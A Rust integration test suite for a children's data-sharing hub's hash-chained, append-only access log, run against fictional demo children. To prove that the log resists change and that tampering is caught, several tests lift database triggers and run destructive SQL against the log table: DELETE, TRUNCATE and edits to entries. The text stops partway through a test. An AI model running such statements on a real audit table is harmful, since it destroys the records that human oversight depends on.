//! The access trace over HTTP: entries per action, durability, the hash
//! chain under concurrency, tamper detection, IG search and export, family history.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use api::demo::{AMIRA, CAMHS, CHLOE, JAYDEN, SCHOOL};
use chrono::{DateTime, Utc};
use consent::trace::{GENESIS, TraceEntry, chain_hash};
use sea_orm::ConnectionTrait;
use serde_json::{Value, json};
use uuid::Uuid;

use crate::helpers::*;

// ---------------------------------------------------------------------------
// Queries and helpers.
// ---------------------------------------------------------------------------

/// The demo grant from Amira's mother to Riverside Primary School.
const SCHOOL_GRANT: Uuid = Uuid::from_u128(0x7e11_0000_0000_4000_8000_0000_0000_0701);
/// The demo grant from Amira's mother to CAMHS.
const CAMHS_GRANT: Uuid = Uuid::from_u128(0x7e11_0000_0000_4000_8000_0000_0000_0702);
/// The grant Chloe's mother made before Chloe turned 16, awaiting her review.
const CHLOE_OT_GRANT: Uuid = Uuid::from_u128(0x7e11_0000_0000_4000_8000_0000_0000_070a);

const NODE: &str = "seq recordedAt action outcome actorSubject actorAgencyId actorAgencyKind
  actorRoles childId purpose disclosed withheld { scope code reason }
  basis { scope kind grantIds overrideId agreementVersion } details { key value }
  requestId traceId hash prevHash";

fn trace_query() -> String {
    format!(
        "query($filter: TraceFilterInput, $first: Int, $after: String) {{
           accessTrace(filter: $filter, first: $first, after: $after) {{
             edges {{ cursor node {{ {NODE} }} }} pageInfo {{ hasNextPage endCursor }} }} }}"
    )
}

const INTEGRITY: &str =
    "{ traceIntegrity { ok entriesChecked headSeq headHash firstBrokenSeq problem } }";

const HISTORY: &str = "query($id: ID!, $first: Int, $after: String) {
  accessHistory(childId: $id, first: $first, after: $after) {
    edges { cursor node { at agencyName agencyKind practitioner scopes purpose basis summary } }
    pageInfo { hasNextPage endCursor } } }";

const READ: &str = "query($id: ID!) { child(id: $id) {
  identity { givenName } education { yearGroup } mentalHealth { camhsStatus } } }";

const READ_CAMHS: &str = "query($id: ID!) { child(id: $id) {
  identity { givenName } mentalHealth { camhsStatus } allAboutMe { whatMatters } education { yearGroup } } }";

const ALL_ABOUT_ME: &str = "query($id: ID!) { child(id: $id) { allAboutMe { whatMatters } } }";

const GRANT: &str =
    "mutation($input: GrantConsentInput!) { grantConsent(input: $input) { receiptId grantId } }";

const WITHDRAW: &str = "mutation($id: ID!) { withdrawConsent(grantId: $id, reason: \"Changed my mind\") { receiptId grantId } }";

const DECLARE: &str = "mutation($input: DeclareOverrideInput!) { declareSafeguardingOverride(input: $input) { id active } }";

const LONG_REASON: &str =
    "Police report received tonight of a serious assault; checking orders and placements now.";

fn declare_input(child: Uuid) -> Value {
    json!({ "input": {
        "childId": child,
        "scopes": ["RESTRICTED", "SOCIAL_CARE"],
        "reason": LONG_REASON,
        "hours": 24,
        "tellFamily": false,
        "withholdReason": "Telling the family could put Jayden at risk while police enquiries continue.",
    }})
}

fn health_grant(child: Uuid) -> Value {
    json!({ "input": {
        "childId": child,
        "recipientAgencyKind": "HEALTH",
        "scopes": ["PHYSICAL_HEALTH"],
        "purposes": ["DIRECT_SUPPORT"],
    }})
}

/// A page of `accessTrace`.
#[derive(Debug)]
struct Page {
    edges: Vec<Value>,
    has_next: bool,
    end_cursor: Option<String>,
}

/// An IG auditor's request (IG staff state no purpose of use).
async fn ig(app: &TestApp, query: &str, variables: Value) -> Answer {
    let token = app.token_for("ig-auditor");
    app.graphql_as(Some(&token), None, query, variables).await
}

async fn trace_page(app: &TestApp, filter: &Value, first: i64, after: Option<&str>) -> Page {
    let answer = ig(
        app,
        &trace_query(),
        json!({ "filter": filter, "first": first, "after": after }),
    )
    .await;
    assert!(
        answer.body["errors"].is_null(),
        "accessTrace failed: {answer:?}"
    );
    let connection = &answer.body["data"]["accessTrace"];
    let edges = connection["edges"]
        .as_array()
        .unwrap_or_else(|| panic!("no edges: {answer:?}"))
        .clone();
    let has_next = connection["pageInfo"]["hasNextPage"]
        .as_bool()
        .unwrap_or_else(|| panic!("no hasNextPage: {answer:?}"));
    let end_cursor = connection["pageInfo"]["endCursor"]
        .as_str()
        .map(str::to_owned);
    Page {
        edges,
        has_next,
        end_cursor,
    }
}

/// Every entry matching `filter`, in pages of 500.
async fn trace(app: &TestApp, filter: Value) -> Vec<Value> {
    let mut out = Vec::new();
    let mut after: Option<String> = None;
    for _ in 0..100 {
        let page = trace_page(app, &filter, 500, after.as_deref()).await;
        out.extend(page.edges.into_iter().map(|e| e["node"].clone()));
        if !page.has_next {
            return out;
        }
        after = page.end_cursor;
    }
    panic!("the trace did not end within 100 pages");
}

/// The one entry matching `filter`.
async fn only_entry(app: &TestApp, filter: Value) -> Value {
    let entries = trace(app, filter.clone()).await;
    assert_eq!(
        entries.len(),
        1,
        "expected exactly one entry for {filter}: {entries:#?}"
    );
    entries[0].clone()
}

fn seq(node: &Value) -> i64 {
    node["seq"]
        .as_i64()
        .unwrap_or_else(|| panic!("no seq: {node}"))
}

fn seqs(nodes: &[Value]) -> Vec<i64> {
    nodes.iter().map(seq).collect()
}

/// An entry's detail by key.
fn detail<'a>(node: &'a Value, key: &str) -> Option<&'a str> {
    node["details"]
        .as_array()?
        .iter()
        .find(|d| d["key"] == key)?["value"]
        .as_str()
}

fn strings(value: &Value) -> BTreeSet<String> {
    value
        .as_array()
        .map(|items| {
            items
                .iter()
                .filter_map(|v| v.as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

/// The basis kinds of an entry.
fn basis_kinds(node: &Value) -> BTreeSet<String> {
    node["basis"]
        .as_array()
        .map(|b| {
            b.iter()
                .filter_map(|b| b["kind"].as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

/// Something was withheld, or the whole request was refused.
fn denied(node: &Value) -> bool {
    node["outcome"] == "DENIED" || node["withheld"].as_array().is_some_and(|w| !w.is_empty())
}

fn recorded_at(node: &Value) -> DateTime<Utc> {
    node["recordedAt"]
        .as_str()
        .and_then(|t| DateTime::parse_from_rfc3339(t).ok())
        .map(|t| t.with_timezone(&Utc))
        .unwrap_or_else(|| panic!("no recordedAt: {node}"))
}

/// Raw SQL on the test database.
async fn sql(app: &TestApp, statement: &str) -> Result<(), sea_orm::DbErr> {
    app.store
        .connection()
        .execute_unprepared(statement)
        .await
        .map(|_| ())
}

/// Lifts the append-only triggers, as someone with database access could.
async fn lift_triggers(app: &TestApp) {
    let statements: &[&str] = if is_postgres() {
        &["ALTER TABLE access_trace DISABLE TRIGGER access_trace_no_change"]
    } else {
        &[
            "DROP TRIGGER access_trace_no_update",
            "DROP TRIGGER access_trace_no_delete",
        ]
    };
    for statement in statements {
        sql(app, statement).await.expect("lift the trigger");
    }
}

/// POSTs a GraphQL request and returns the answer with its `x-request-id`.
async fn post_with_request_id(
    app: &TestApp,
    token: &str,
    purpose: Option<&str>,
    query: &str,
    variables: Value,
) -> (Answer, String) {
    let mut request = app
        .client
        .post(format!("{}/graphql", app.address))
        .bearer_auth(token)
        .json(&json!({ "query": query, "variables": variables }));
    if let Some(purpose) = purpose {
        request = request.header("x-purpose-of-use", purpose);
    }
    let response = request.send().await.expect("request sent");
    let status = response.status().as_u16();
    let request_id = response
        .headers()
        .get("x-request-id")
        .and_then(|v| v.to_str().ok())
        .expect("x-request-id header")
        .to_owned();
    let body = response.json::<Value>().await.expect("JSON body");
    (Answer { status, body }, request_id)
}

/// GET /trace/export: status, content type and body.
async fn export(app: &TestApp, token: Option<&str>, query: &str) -> (u16, String, String) {
    let mut request = app
        .client
        .get(format!("{}/trace/export{query}", app.address));
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    let response = request.send().await.expect("request sent");
    let status = response.status().as_u16();
    let content_type = response
        .headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    (
        status,
        content_type,
        response.text().await.expect("export body"),
    )
}

/// An expired token for a persona.
fn expired_token(app: &TestApp, persona: &str) -> String {
    let mut claims = app.claims_for(persona);
    let now = Utc::now().timestamp();
    claims["iat"] = json!(now - 7200);
    claims["exp"] = json!(now - 3600);
    app.hs256(&claims)
}

async fn integrity(app: &TestApp) -> Value {
    let answer = ig(app, INTEGRITY, json!({})).await;
    assert!(answer.body["errors"].is_null(), "{answer:?}");
    answer.body["data"]["traceIntegrity"].clone()
}

/// Asserts the whole stored chain is intact and numbered 1..=N; returns N.
async fn assert_chain_intact(app: &TestApp) -> usize {
    let links = app.store.trace_links(0, 1_000_000).await.expect("links");
    let mut prev = GENESIS.to_owned();
    for (i, link) in links.iter().enumerate() {
        assert_eq!(link.seq, i as i64 + 1, "sequence numbers have a gap");
        assert_eq!(link.prev_hash, prev, "entry {} is not linked", link.seq);
        prev = link.hash.clone();
    }
    let report = app.store.verify_trace().await.expect("verify");
    assert_eq!(report.first_broken, None, "{report:?}");
    assert_eq!(report.checked, links.len() as u64);
    links.len()
}

// ---------------------------------------------------------------------------
// 1. A read leaves exactly the entry it should.
// ---------------------------------------------------------------------------

#[tokio::test]
async fn a_read_leaves_one_entry_with_field_names_and_bases_but_no_values() {
    let app = spawn_app().await;
    let (answer, request_id) = post_with_request_id(
        &app,
        &app.token_for("senco"),
        Some("DIRECT_SUPPORT"),
        READ,
        json!({ "id": AMIRA }),
    )
    .await;
    let child = &answer.body["data"]["child"];
    assert_eq!(child["identity"]["givenName"], "Amira", "{answer:?}");
    assert_eq!(child["education"]["yearGroup"], "Year 4", "{answer:?}");
    assert!(child["mentalHealth"].is_null(), "{answer:?}");
    assert!(!request_id.is_empty());

    let e = only_entry(&app, json!({ "childId": AMIRA, "action": "READ" })).await;
    assert_eq!(
        e["seq"], 2,
        "the demo leaves only the agreement's entry: {e}"
    );
    assert_eq!(e["action"], "READ");
    assert_eq!(e["outcome"], "SUCCESS");
    assert_eq!(e["actorSubject"], "test-senco");
    assert_eq!(e["actorAgencyId"], SCHOOL.to_string());
    assert_eq!(e["actorAgencyKind"], "SCHOOL");
    assert_eq!(e["actorRoles"], json!(["PRACTITIONER"]));
    assert_eq!(e["childId"], AMIRA.to_string());
    assert_eq!(e["purpose"], "DIRECT_SUPPORT");
    assert_eq!(e["requestId"], request_id.as_str(), "{e}");
    assert_eq!(
        e["disclosed"],
        json!(["education.yearGroup", "identity.givenName"]),
        "{e}"
    );

    let withheld = e["withheld"].as_array().expect("withheld");
    assert_eq!(withheld.len(), 1, "only requested scopes are listed: {e}");
    assert_eq!(withheld[0]["scope"], "MENTAL_HEALTH");
    assert_eq!(withheld[0]["code"], "NOT_PERMITTED");
    assert!(
        withheld[0]["reason"]
            .as_str()
            .is_some_and(|r| !r.is_empty()),
        "{e}"
    );

    let basis: BTreeMap<&str, &Value> = e["basis"]
        .as_array()
        .expect("basis")
        .iter()
        .map(|b| (b["scope"].as_str().expect("scope"), b))
        .collect();
    assert_eq!(
        basis.keys().copied().collect::<Vec<_>>(),
        vec!["EDUCATION", "IDENTITY"],
        "{e}"
    );
    let education = basis["EDUCATION"];
    assert_eq!(education["kind"], "CONSENT");
    assert_eq!(education["grantIds"], json!([SCHOOL_GRANT.to_string()]));
    assert_eq!(education["overrideId"], Value::Null);
    assert_eq!(education["agreementVersion"], 1);
    let identity = basis["IDENTITY"];
    assert_eq!(identity["kind"], "PUBLIC_TASK");
    assert_eq!(identity["grantIds"], json!([]));
    assert_eq!(identity["agreementVersion"], 1);
    assert_eq!(detail(&e, "agreement_version"), Some("1"), "{e}");

    // Linked to the agreement's entry before it.
    let links = app.store.trace_links(0, 10).await.expect("links");
    assert_eq!(e["prevHash"], links[0].hash.as_str());
    assert_eq!(e["hash"], links[1].hash.as_str());

    // Field names, never values: neither in the entry nor in the stored row.
    let text = e.to_string();
    for value in ["Amira", "Khan", "Year 4", "WAITING", "Waiting"] {
        assert!(!text.contains(value), "{value} in the entry: {text}");
        assert!(
            !links[1].canonical.contains(value),
            "{value} stored: {}",
            links[1].canonical
        );
    }
}

// ---------------------------------------------------------------------------
// 2. Every other operation leaves its entry.
// ---------------------------------------------------------------------------

#[tokio::test]
async fn every_operation_leaves_its_entry() {
    let app = spawn_app().await;

    // CHILD_REGISTERED (and the read of what the case officer gets back).
    let registered = app
        .graphql(
            "case-officer",
            "mutation($input: RegisterChildInput!) { registerChild(input: $input) { id identity { givenName } } }",
            json!({ "input": {
                "givenName": "Rowan", "familyName": "Ashby", "dateOfBirth": "2018-05-01",
                "nhsNumber": "943 476 5919", "postcode": "NS1 2AB"
            }}),
        )
        .await;
    let new_child = registered.body["data"]["registerChild"]["id"]
        .as_str()
        .unwrap_or_else(|| panic!("not registered: {registered:?}"))
        .to_owned();
    let e = only_entry(&app, json!({ "action": "CHILD_REGISTERED" })).await;
    assert_eq!(e["actorSubject"], "test-case-officer");
    assert_eq!(e["childId"], new_child.as_str());
    assert_eq!(e["purpose"], "DIRECT_SUPPORT");
    assert_eq!(e["outcome"], "SUCCESS");
    let register_request = e["requestId"].as_str().expect("request id").to_owned();
    let read_back = only_entry(&app, json!({ "childId": new_child, "action": "READ" })).await;
    assert_eq!(read_back["requestId"], register_request.as_str());
    assert_eq!(read_back["disclosed"], json!(["identity.givenName"]));
    for text in [e.to_string(), read_back.to_string()] {
        for value in ["Rowan", "Ashby", "9434765919", "NS1 2AB", "2018-05-01"] {
            assert!(!text.contains(value), "{value} in {text}");
        }
    }

    // FAMILY_LINKED.
    let linked = app
        .graphql(
            "case-officer",
            "mutation($c: ID!, $i: LinkFamilyMemberInput!) { linkFamilyMember(childId: $c, input: $i) { id } }",
            json!({ "c": new_child, "i": {
                "fullName": "Robin Ashby", "relationship": "FATHER", "parentalResponsibility": true,
                "prEvidence": "Named on birth certificate", "personId": "person-robin-ashby",
                "contactPreference": "EMAIL", "email": "robin@example.org" } }),
        )
        .await;
    let member = linked.body["data"]["linkFamilyMember"]["id"]
        .as_str()
        .unwrap_or_else(|| panic!("not linked: {linked:?}"))
        .to_owned();
    let e = only_entry(&app, json!({ "action": "FAMILY_LINKED" })).await;
    assert_eq!(e["actorSubject"], "test-case-officer");
    assert_eq!(e["childId"], new_child.as_str());
    assert_eq!(detail(&e, "family_member_id"), Some(member.as_str()), "{e}");
    assert_eq!(detail(&e, "parental_responsibility"), Some("true"), "{e}");
    let text = e.to_string();
    for value in ["Robin", "robin@example.org", "person-robin-ashby", "birth"] {
        assert!(!text.contains(value), "{value} in {text}");
    }

    // CONSENT_GRANTED and CONSENT_WITHDRAWN, by the parent.
    let granted = app.graphql("parent", GRANT, health_grant(AMIRA)).await;
    let grant_id = granted.body["data"]["grantConsent"]["grantId"]
        .as_str()
        .unwrap_or_else(|| panic!("not granted: {granted:?}"))
        .to_owned();
    let e = only_entry(&app, json!({ "action": "CONSENT_GRANTED" })).await;
    assert_eq!(e["actorSubject"], "test-parent");
    assert_eq!(e["actorAgencyId"], Value::Null);
    assert_eq!(e["childId"], AMIRA.to_string());
    assert_eq!(detail(&e, "grant_id"), Some(grant_id.as_str()), "{e}");
    assert_eq!(detail(&e, "recipient"), Some("kind:HEALTH"), "{e}");
    assert_eq!(detail(&e, "scopes"), Some("PHYSICAL_HEALTH"), "{e}");
    assert_eq!(detail(&e, "method"), Some("DIGITAL"), "{e}");
    let withdrawn = app
        .graphql("parent", WITHDRAW, json!({ "id": grant_id }))
        .await;
    let withdrawal_id = withdrawn.body["data"]["withdrawConsent"]["receiptId"]
        .as_str()
        .unwrap_or_else(|| panic!("not withdrawn: {withdrawn:?}"))
        .to_owned();
    let e = only_entry(&app, json!({ "action": "CONSENT_WITHDRAWN" })).await;
    assert_eq!(e["actorSubject"], "test-parent");
    assert_eq!(e["childId"], AMIRA.to_string());
    assert_eq!(detail(&e, "grant_id"), Some(grant_id.as_str()), "{e}");
    assert_eq!(
        detail(&e, "withdrawal_id"),
        Some(withdrawal_id.as_str()),
        "{e}"
    );
    assert!(!e.to_string().contains("Changed my mind"), "{e}");

    // CONSENT_CONFIRMED, by the young person; CAPACITY_RECORDED, by the case officer.
    let confirmed = app
        .graphql(
            "young-person",
            "mutation($id: ID!) { confirmConsent(grantId: $id) { id confirmedAt } }",
            json!({ "id": CHLOE_OT_GRANT }),
        )
        .await;
    assert!(confirmed.body["errors"].is_null(), "{confirmed:?}");
    let e = only_entry(&app, json!({ "action": "CONSENT_CONFIRMED" })).await;
    assert_eq!(e["actorSubject"], "test-young-person");
    assert_eq!(e["childId"], CHLOE.to_string());
    assert_eq!(
        detail(&e, "grant_id"),
        Some(CHLOE_OT_GRANT.to_string().as_str())
    );
    let capacity = app
        .graphql(
            "case-officer",
            "mutation($id: ID!) { recordCapacity(childId: $id, lacksCapacity: false) }",
            json!({ "id": CHLOE }),
        )
        .await;
    assert!(capacity.body["errors"].is_null(), "{capacity:?}");
    let e = only_entry(&app, json!({ "action": "CAPACITY_RECORDED" })).await;
    assert_eq!(e["childId"], CHLOE.to_string());
    assert_eq!(detail(&e, "lacks_capacity"), Some("false"), "{e}");

    // OVERRIDE_DECLARED by the safeguarding lead, OVERRIDE_REVIEWED by IG.
    let lead = app.token_for("social-worker");
    let declared = app
        .graphql_as(
            Some(&lead),
            Some("SAFEGUARDING"),
            DECLARE,
            declare_input(JAYDEN),
        )
        .await;
    let override_id = declared.body["data"]["declareSafeguardingOverride"]["id"]
        .as_str()
        .unwrap_or_else(|| panic!("not declared: {declared:?}"))
        .to_owned();
    let e = only_entry(&app, json!({ "action": "OVERRIDE_DECLARED" })).await;
    assert_eq!(e["actorSubject"], "test-social-worker");
    assert_eq!(e["childId"], JAYDEN.to_string());
    assert_eq!(e["purpose"], "SAFEGUARDING");
    assert_eq!(detail(&e, "override_id"), Some(override_id.as_str()), "{e}");
    assert_eq!(detail(&e, "scopes"), Some("SOCIAL_CARE,RESTRICTED"), "{e}");
    assert_eq!(detail(&e, "hours"), Some("24"), "{e}");
    assert_eq!(detail(&e, "tell_family"), Some("false"), "{e}");
    assert!(!e.to_string().contains("Police"), "{e}");
    let reviewed = ig(
        &app,
        "mutation($id: ID!) { reviewOverride(id: $id, outcome: UPHELD, note: \"Justified by the police report.\") { id reviewOutcome } }",
        json!({ "id": override_id }),
    )
    .await;
    assert_eq!(
        reviewed.body["data"]["reviewOverride"]["reviewOutcome"], "UPHELD",
        "{reviewed:?}"
    );
    let e = only_entry(&app, json!({ "action": "OVERRIDE_REVIEWED" })).await;
    assert_eq!(e["actorSubject"], "test-ig-auditor");
    assert_eq!(e["childId"], JAYDEN.to_string());
    assert_eq!(detail(&e, "override_id"), Some(override_id.as_str()), "{e}");
    assert_eq!(detail(&e, "outcome"), Some("UPHELD"), "{e}");
    assert!(!e.to_string().contains("police report"), "{e}");

    // AGREEMENT_PUBLISHED: the default at seq 1, then the IG admin's.
    let source = include_str!("../../consent/agreements/default.toml").replace(
        "Northshire default information-sharing agreement",
        "Northshire information-sharing agreement, second edition",
    );
    let published = app
        .graphql(
            "ig-admin",
            "mutation($source: String!) { publishAgreement(source: $source) { version } }",
            json!({ "source": source }),
        )
        .await;
    assert_eq!(
        published.body["data"]["publishAgreement"]["version"], 2,
        "{published:?}"
    );
    let entries = trace(&app, json!({ "action": "AGREEMENT_PUBLISHED" })).await;
    assert_eq!(entries.len(), 2, "{entries:#?}");
    assert_eq!(entries[0]["seq"], 1);
    assert_eq!(entries[0]["actorSubject"], "tellonce");
    assert_eq!(detail(&entries[0], "version"), Some("1"));
    assert_eq!(entries[1]["actorSubject"], "test-ig-admin");
    assert_eq!(detail(&entries[1], "version"), Some("2"));

    // SEARCH: whether it matched, never the number searched for.
    let find =
        "query($n: String!, $d: Date!) { childByNhsNumber(nhsNumber: $n, dateOfBirth: $d) { id } }";
    let found = app
        .graphql(
            "senco",
            find,
            json!({ "n": "943 476 5919", "d": "2018-05-01" }),
        )
        .await;
    assert_eq!(
        found.body["data"]["childByNhsNumber"]["id"],
        new_child.as_str(),
        "{found:?}"
    );
    let missed = app
        .graphql(
            "senco",
            find,
            json!({ "n": "9434765919", "d": "2018-05-02" }),
        )
        .await;
    assert_eq!(missed.codes(), vec!["NOT_FOUND"], "{missed:?}");
    let searches = trace(&app, json!({ "action": "SEARCH" })).await;
    assert_eq!(searches.len(), 2, "{searches:#?}");
    assert_eq!(searches[0]["actorSubject"], "test-senco");
    assert_eq!(searches[0]["childId"], new_child.as_str());
    assert_eq!(detail(&searches[0], "matched"), Some("true"));
    assert_eq!(searches[1]["childId"], Value::Null);
    assert_eq!(detail(&searches[1], "matched"), Some("false"));
    for e in &searches {
        let text = e.to_string();
        for value in ["9434765919", "943 476 5919", "2018-05-01", "2018-05-02"] {
            assert!(!text.contains(value), "{value} in {text}");
        }
    }

    // AUTH_FAILED: the reason, never the token.
    let token = expired_token(&app, "senco");
    let refused = app
        .graphql_as(
            Some(&token),
            Some("DIRECT_SUPPORT"),
            READ,
            json!({ "id": AMIRA }),
        )
        .await;
    assert_eq!(refused.status, 401, "{refused:?}");
    assert_eq!(refused.codes(), vec!["UNAUTHENTICATED"]);
    let garbage = "garbage-token-material-1234567890";
    let refused = app
        .graphql_as(
            Some(garbage),
            Some("DIRECT_SUPPORT"),
            READ,
            json!({ "id": AMIRA }),
        )
        .await;
    assert_eq!(refused.status, 401, "{refused:?}");
    let failures = trace(&app, json!({ "action": "AUTH_FAILED" })).await;
    assert_eq!(failures.len(), 2, "{failures:#?}");
    assert_eq!(detail(&failures[0], "reason"), Some("expired"));
    assert_eq!(detail(&failures[1], "reason"), Some("malformed"));
    for e in &failures {
        assert_eq!(e["outcome"], "DENIED", "{e}");
        assert_eq!(e["actorSubject"], Value::Null, "{e}");
        assert!(e["requestId"].is_string(), "{e}");
        let text = e.to_string();
        assert!(!text.contains(garbage), "{text}");
        assert!(!text.contains("test-senco"), "{text}");
        for part in token.split('.') {
            assert!(!text.contains(part), "token material in {text}");
        }
    }

    // TRACE_SEARCH: IG searches and integrity checks are traced too.
    let before = trace(&app, json!({ "action": "TRACE_SEARCH" })).await.len();
    let nothing = trace(&app, json!({ "actorSubject": "test-nobody" })).await;
    assert!(nothing.is_empty());
    assert!(integrity(&app).await["ok"].as_bool().unwrap_or(false));
    let searches = trace(&app, json!({ "action": "TRACE_SEARCH" })).await;
    // Earlier searches, the one counting them, the empty search, the check.
    assert_eq!(searches.len(), before + 3, "{searches:#?}");
    let empty = &searches[searches.len() - 2];
    assert_eq!(empty["actorSubject"], "test-ig-auditor");
    assert_eq!(
        detail(empty, "filter"),
        Some("actor=test-nobody"),
        "{empty}"
    );
    assert_eq!(detail(empty, "results"), Some("0"), "{empty}");
    let check = &searches[searches.len() - 1];
    assert_eq!(detail(check, "check"), Some("integrity"), "{check}");

    // EXPORT.
    let (status, _, _) = export(
        &app,
        Some(&app.token_for("ig-auditor")),
        "?format=csv&action=READ",
    )
    .await;
    assert_eq!(status, 200);
    let e = only_entry(&app, json!({ "action": "EXPORT" })).await;
    assert_eq!(e["actorSubject"], "test-ig-auditor");
    assert_eq!(detail(&e, "format"), Some("csv"), "{e}");
    assert_eq!(detail(&e, "filter"), Some("action=READ"), "{e}");

    // Every entry names its request, and the chain holds.
    let all = trace(&app, json!({})).await;
    assert!(
        all.iter().skip(1).all(|e| e["requestId"].is_string()),
        "{all:#?}"
    );
    assert_chain_intact(&app).await;
}

// ---------------------------------------------------------------------------
// 3. Durable before disclosure.
// ---------------------------------------------------------------------------

#[tokio::test]
async fn nothing_leaves_the_hub_when_its_entry_cannot_be_written() {
    let app = spawn_app().await;
    let parent = app.token_for("parent");
    let read = |token: String| {
        let app = &app;
        async move {
            app.graphql_as(Some(&token), None, ALL_ABOUT_ME, json!({ "id": AMIRA }))
                .await
        }
    };
    let before = read(parent.clone()).await;
    assert!(before.body.to_string().contains("Biscuit"), "{before:?}");
    let stored = app.store.trace_links(0, 1_000).await.expect("links").len();

    sql(&app, "ALTER TABLE access_trace RENAME TO access_trace_away")
        .await
        .expect("move the trace away");

    let failed = read(parent.clone()).await;
    assert_eq!(failed.status, 500, "{failed:?}");
    assert_eq!(failed.codes(), vec!["INTERNAL"], "{failed:?}");
    let text = failed.body.to_string();
    for leak in ["Biscuit", "horses", "access_trace", "SELECT", "INSERT"] {
        assert!(!text.contains(leak), "{leak} in {text}");
    }
    assert!(failed.body["data"].is_null(), "{failed:?}");

    // The same through `me`, for a practitioner, for a search and a batch.
    let me = app
        .graphql_as(
            Some(&parent),
            None,
            "{ me { children { allAboutMe { whatMatters } } } }",
            json!({}),
        )
        .await;
    assert_eq!(me.status, 500, "{me:?}");
    assert!(!me.body.to_string().contains("Biscuit"), "{me:?}");
    let senco = app.graphql("senco", READ, json!({ "id": AMIRA })).await;
    assert_eq!(senco.status, 500, "{senco:?}");
    assert!(!senco.body.to_string().contains("Year 4"), "{senco:?}");
    let batch = app
        .post_json(
            Some(&parent),
            None,
            &json!([
                { "query": "{ me { subject } }" },
                { "query": ALL_ABOUT_ME, "variables": { "id": AMIRA } },
            ]),
        )
        .await;
    assert_eq!(batch.status, 500, "{batch:?}");
    assert!(!batch.body.to_string().contains("Biscuit"), "{batch:?}");

    // A change whose entry cannot be written does not happen.
    let granted = app
        .graphql_as(Some(&parent), None, GRANT, health_grant(AMIRA))
        .await;
    assert_eq!(granted.codes(), vec!["INTERNAL"], "{granted:?}");
    assert!(granted.body["data"].is_null(), "{granted:?}");
    // Refused tokens and exports fail closed as well.
    let expired = app
        .graphql_as(
            Some(&expired_token(&app, "senco")),
            None,
            READ,
            json!({ "id": AMIRA }),
        )
        .await;
    assert_eq!(expired.status, 500, "{expired:?}");
    let (status, _, body) = export(&app, Some(&app.token_for("ig-auditor")), "").await;
    assert_eq!(status, 500, "{body}");

    sql(&app, "ALTER TABLE access_trace_away RENAME TO access_trace")
        .await
        .expect("put the trace back");
    assert_eq!(
        app.store.trace_links(0, 1_000).await.expect("links").len(),
        stored,
        "nothing was recorded while the trace was away"
    );
    assert_chain_intact(&app).await;

    // The grant never happened; the hub answers again.
    let consents = app
        .graphql_as(
            Some(&parent),
            None,
            "query($id: ID!) { consents(childId: $id) { recipientAgencyKind scopes } }",
            json!({ "id": AMIRA }),
        )
        .await;
    let health_grants = consents.body["data"]["consents"]
        .as_array()
        .unwrap_or_else(|| panic!("no consents: {consents:?}"))
        .iter()
        .filter(|c| c["recipientAgencyKind"] == "HEALTH")
        .count();
    assert_eq!(health_grants, 0, "{consents:?}");
    let again = read(parent).await;
    assert!(again.body.to_string().contains("Biscuit"), "{again:?}");
}

// ---------------------------------------------------------------------------
// 4. Append-only.
// ---------------------------------------------------------------------------

#[tokio::test]
async fn the_database_refuses_to_change_or_remove_entries() {
    let app = spawn_app().await;
    let read = app.graphql("senco", READ, json!({ "id": AMIRA })).await;
    assert!(read.body["data"]["child"].is_object(), "{read:?}");
    let before = app.store.trace_links(0, 1_000).await.expect("links");
    assert_eq!(before.len(), 2);

    let mut statements = vec![
        "UPDATE access_trace SET action = 'X' WHERE seq = 1",
        "UPDATE access_trace SET entry = REPLACE(entry, 'test-senco', 'test-other')",
        "DELETE FROM access_trace WHERE seq = 2",
        "DELETE FROM access_trace",
    ];
    if is_postgres() {
        statements.push("TRUNCATE access_trace");
    }
    for statement in statements {
        let error = sql(&app, statement)
            .await
            .expect_err(&format!("the database allowed: {statement}"));
        assert!(
            error.to_string().contains("append-only"),
            "{statement}: {error}"
        );
    }
    let after = app.store.trace_links(0, 1_000).await.expect("links");
    assert_eq!(before, after);
    assert_chain_intact(&app).await;
    let report = integrity(&app).await;
    assert_eq!(report["ok"], true, "{report}");
}

// ---------------------------------------------------------------------------
// 5. Tamper detection names the entry.
// ---------------------------------------------------------------------------

/// Three reads after the agreement's entry: seq 2 (senco), 3 (camhs), 4 (senco).
async fn three_reads(app: &TestApp) {
    for (persona, child) in [("senco", AMIRA), ("camhs", AMIRA), ("senco", JAYDEN)] {
        let answer = app.graphql(persona, READ, json!({ "id": child })).await;
        assert!(answer.body["data"]["child"].is_object(), "{answer:?}");
    }
}

#[tokio::test]
async fn an_edited_entry_is_found_and_named() {
    let app = spawn_app().await;
    three_reads(&app).await;
    let links = app.store.trace_links(0, 100).await.expect("links");
    assert_eq!(links.len(), 4);

    let report = integrity(&app).await;
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["entriesChecked"], 4, "{report}");
    assert_eq!(report["headSeq"], 4, "{report}");
    assert_eq!(report["headHash"], links[3].hash.as_str(), "{report}");
    assert_eq!(report["firstBrokenSeq"], Value::Null, "{report}");
    assert_eq!(report["problem"], Value::Null, "{report}");

    lift_triggers(&app).await;
    sql(
        &app,
        "UPDATE access_trace SET entry = REPLACE(entry, 'test-camhs', 'test-someone-else') WHERE seq = 3",
    )
    .await
    .expect("edit entry 3");
    let edited = app.store.trace_links(2, 1).await.expect("links");
    assert!(
        edited[0].canonical.contains("test-someone-else"),
        "{edited:?}"
    );

    let report = integrity(&app).await;
    assert_eq!(report["ok"], false, "{report}");
    assert_eq!(report["firstBrokenSeq"], 3, "{report}");
    // The four reads and the first integrity check.
    assert_eq!(report["entriesChecked"], 5, "{report}");
    assert!(
        report["problem"].as_str().is_some_and(|p| !p.is_empty()),
        "{report}"
    );
    let verified = app.store.verify_trace().await.expect("verify");
    assert_eq!(verified.first_broken, Some(3), "{verified:?}");
    assert_eq!(verified.checked, 6, "{verified:?}");
    // The trace still takes entries after the break, and still reports it.
    let report = integrity(&app).await;
    assert_eq!(report["firstBrokenSeq"], 3, "{report}");
}

#[tokio::test]
async fn a_removed_re_hashed_or_forged_entry_is_found() {
    // Removed: the gap is reported at the missing entry.
    let app = spawn_app().await;
    three_reads(&app).await;
    lift_triggers(&app).await;
    sql(&app, "DELETE FROM access_trace WHERE seq = 3")
        .await
        .expect("remove entry 3");
    let report = integrity(&app).await;
